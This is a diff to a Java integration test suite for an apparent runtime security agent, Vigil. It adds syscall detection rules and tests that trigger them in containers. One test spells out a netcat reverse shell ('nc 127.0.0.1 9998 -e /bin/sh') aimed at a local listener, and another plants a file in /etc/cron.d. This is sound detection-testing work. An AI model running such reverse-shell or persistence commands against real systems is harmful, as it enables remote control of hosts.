@@ -56,6 +56,54 @@ class SyscallRulesTest {
                   output: test listen (addr=%fd.name backlog=%evt.arg.backlog proc=%proc.name)
                   priority: NOTICE
                   tags: [test]
+                - rule: Vigil test rename into etc in a container
+                  desc: no default rule reads renames; a file moved into /etc
+                  condition: evt.type in (rename, renameat, renameat2) and evt.dir = < and evt.arg.newpath startswith /etc/ and container.id != host
+                  output: test rename (old=%evt.arg.oldpath new=%evt.arg.newpath file=%fd.name proc=%proc.name)
+                  priority: NOTICE
+                  tags: [test]
+                - rule: Vigil test chown to 1234 in a container
+                  desc: no default rule reads chowns
+                  condition: evt.type in (chown, fchown, lchown, fchownat) and evt.dir = < and evt.arg.uid = 1234 and container.id != host
+                  output: test chown (file=%fd.name uid=%evt.arg.uid gid=%evt.arg.gid proc=%proc.name)
+                  priority: NOTICE
+                  tags: [test]
+                - rule: Vigil test hard link in a container
+                  desc: no default rule reads links
+                  condition: evt.type in (link, linkat) and evt.dir = < and evt.arg.newpath endswith /vigil-hard and container.id != host
+                  output: test link (old=%evt.arg.oldpath new=%evt.arg.newpath proc=%proc.name)
+                  priority: NOTICE
+                  tags: [test]
+                - rule: Vigil test mknod in a container
+                  desc: no default rule reads mknod
+                  condition: evt.type in (mknod, mknodat) and evt.dir = < and evt.arg.path endswith /vigil-fifo and container.id != host
+                  output: test mknod (file=%fd.name mode=%evt.arg.mode proc=%proc.name)
+                  priority: NOTICE
+                  tags: [test]
+                - rule: Vigil test setgid to 4321
+                  desc: no default rule reads setgid
+                  condition: evt.type in (setgid, setregid, setresgid) and evt.dir = < and evt.arg.gid = 4321
+                  output: test setgid (gid=%evt.arg.gid proc=%proc.name)
+                  priority: NOTICE
+                  tags: [test]
+                - rule: Vigil test capset by setpriv
+                  desc: no default rule reads capset
+                  condition: evt.type = capset and evt.dir = < and proc.name = setpriv and evt.arg.cap_effective contains CAP_SYS_ADMIN
+                  output: test capset (inheritable=[%evt.arg.cap_inheritable] proc=%proc.name)
+                  priority: NOTICE
+                  tags: [test]
+                - rule: Vigil test UDP connect to 53 in a container
+                  desc: a connect record labelled by its socket's type
+                  condition: evt.type = connect and evt.dir = < and fd.sport = 53 and container.id != host
+                  output: test udp connect (l4=%fd.l4proto connection=%fd.name proc=%proc.name)
+                  priority: NOTICE
+                  tags: [test]
+                - rule: Vigil test DNS query in a container
+                  desc: no default rule reads DNS queries
+                  condition: evt.type in (sendto, sendmsg, write) and evt.dir = < and fd.dport = 53 and container.id != host
+                  output: test dns (name=%evt.arg.name l4=%fd.l4proto server=%fd.sip:%fd.sport proc=%proc.name)
+                  priority: NOTICE
+                  tags: [test]
                 """);
         sink = new CapturingSink(e -> e instanceof Alert);
         agent = Agent.start(TestConfigs.load(Map.of("output.path", "/dev/null", "policies.dir", work.resolve("policies").toString(),
@@ -152,5 +200,66 @@ class SyscallRulesTest {
         JsonNode ran = sink.await(e -> e instanceof Alert a && a.rule().equals("Fileless Execution via Memfd")
                 && a.process() != null && a.process().pid() == pid, WAIT);
         assertThat(ran.get("output").asText()).contains("exe=/memfd:vigil-payload");
+    }
+
+    @Test
+    void aSocketDuplicatedOntoStandardStreamsIsAReverseShell() throws Exception {
+        // busybox nc -e moves the connected socket onto fd 0 and dup2s it onto 1 before running the
+        // program; the listener plays the attacker and tells the shell to exit. The shell's own
+        // redirection (a file dup2ed onto stdout) is the benign neighbour.
+        String id = run("dup", "(echo exit | timeout 10 nc -l -p 9998 > /dev/null) & sleep 0.5; "
+                + "timeout 10 nc 127.0.0.1 9998 -e /bin/sh; echo x > /tmp/out; wait; true");
+        JsonNode a = alert("Reverse Shell Standard Stream Redirection", id);
+        assertThat(a.get("priority").asText()).isEqualTo("critical");
+        assertThat(a.get("output").asText()).containsPattern("Socket redirected to standard stream [01] "
+                + "\\(connection=127\\.0\\.0\\.1:\\d+->127\\.0\\.0\\.1:9998 proc=nc ");
+        assertThat(sink.events()).filteredOn(e -> e instanceof Alert al && al.container() != null && al.container().id().equals(id)
+                && al.rule().equals("Reverse Shell Standard Stream Redirection")).allMatch(e -> ((Alert) e).output().contains("proc=nc "));
+    }
+
+    @Test
+    void renameChownAndLinkRecordsCarryBothPathsAndTheOwner() throws Exception {
+        // busybox's sh may run mv, chown and ln in-process (NOFORK applets): proc is then sh.
+        String id = run("rename", """
+                echo x > /tmp/vigil-job && mkdir -p /etc/cron.d && mv /tmp/vigil-job /etc/cron.d/vigil-job
+                touch /tmp/owned && chown 1234:5678 /tmp/owned
+                ln /tmp/owned /tmp/vigil-hard
+                mknod /tmp/vigil-fifo p
+                true
+                """);
+        assertThat(alert("Vigil test rename into etc in a container", id).get("output").asText())
+                .containsPattern("old=/tmp/vigil-job new=/etc/cron.d/vigil-job file=/etc/cron.d/vigil-job proc=(mv|sh)\\)");
+        assertThat(alert("Vigil test chown to 1234 in a container", id).get("output").asText())
+                .containsPattern("file=/tmp/owned uid=1234 gid=5678 proc=(chown|sh)\\)");
+        assertThat(alert("Vigil test hard link in a container", id).get("output").asText())
+                .containsPattern("old=/tmp/owned new=/tmp/vigil-hard proc=(ln|sh)\\)");
+        assertThat(alert("Vigil test mknod in a container", id).get("output").asText())
+                .containsPattern("file=/tmp/vigil-fifo mode=S_IFIFO\\|\\S* proc=(mknod|sh)\\)");
+    }
+
+    @Test
+    void setgidAndCapsetRecordsCarryWhatTheProcessAskedFor() throws Exception {
+        // On the host: setpriv sets the group ids, then drops every inheritable capability with capset.
+        Process p = new ProcessBuilder("setpriv", "--regid", "4321", "--keep-groups", "--inh-caps", "-all", "true").inheritIO().start();
+        assertThat(p.waitFor(30, java.util.concurrent.TimeUnit.SECONDS)).isTrue();
+        assertThat(p.exitValue()).isZero();
+        long pid = p.pid();
+        JsonNode gid = sink.await(e -> e instanceof Alert a && a.rule().equals("Vigil test setgid to 4321")
+                && a.process() != null && a.process().pid() == pid, WAIT);
+        assertThat(gid.get("output").asText()).isEqualTo("test setgid (gid=4321 proc=setpriv)");
+        JsonNode caps = sink.await(e -> e instanceof Alert a && a.rule().equals("Vigil test capset by setpriv")
+                && a.process() != null && a.process().pid() == pid, WAIT);
+        assertThat(caps.get("output").asText()).isEqualTo("test capset (inheritable=[] proc=setpriv)");
+    }
+
+    @Test
+    void aDnsQueryCarriesTheQueriedNameAndTheServer() throws Exception {
+        // Nothing answers on 127.0.0.1:53: the query is sent all the same, and nslookup gives up.
+        String id = run("dns", "timeout 3 nslookup vigil-probe.example.com 127.0.0.1 > /dev/null 2>&1; true");
+        assertThat(alert("Vigil test DNS query in a container", id).get("output").asText())
+                .contains("name=vigil-probe.example.com l4=udp server=127.0.0.1:53 proc=nslookup");
+        // busybox nslookup connects its UDP socket first: a connect, labelled udp by the socket's type.
+        assertThat(alert("Vigil test UDP connect to 53 in a container", id).get("output").asText())
+                .containsPattern("l4=udp connection=127\\.0\\.0\\.1:\\d+->127\\.0\\.0\\.1:53 proc=nslookup");
     }
 }
